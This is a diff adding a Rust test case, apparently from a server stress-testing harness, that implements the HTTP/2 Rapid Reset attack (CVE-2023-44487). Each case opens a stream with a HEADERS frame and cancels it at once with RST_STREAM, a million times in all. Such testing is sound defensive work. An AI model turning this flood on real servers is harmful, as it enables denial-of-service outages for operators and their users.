@@ -1,0 +1,34 @@
+//! Rapid reset (CVE-2023-44487): calls that are reset as soon as they are made.
+
+use super::hold_floods;
+use crate::attacker::Attacker;
+use crate::case::{Attack, Budgets, Case};
+use crate::frames::{END_HEADERS, HEADERS, RST_STREAM, call_headers, frame};
+use crate::link::LIVESTREAMS;
+
+/// CANCEL.
+const CODE: [u8; 4] = [0, 0, 0, 8];
+
+pub(super) struct RapidReset;
+
+impl Case for RapidReset {
+    fn name(&self) -> &'static str {
+        "rapid-reset"
+    }
+
+    fn does(&self) -> &'static str {
+        "opens streams and resets each at once, a million in all"
+    }
+
+    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
+        0
+    }
+
+    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
+        Box::pin(hold_floods(attacker, &[], |out, number| {
+            let stream = 2 * number + 1;
+            frame(out, HEADERS, END_HEADERS, stream, &call_headers(&format!("{LIVESTREAMS}PublishUpdates")));
+            frame(out, RST_STREAM, 0, stream, &CODE);
+        }))
+    }
+}
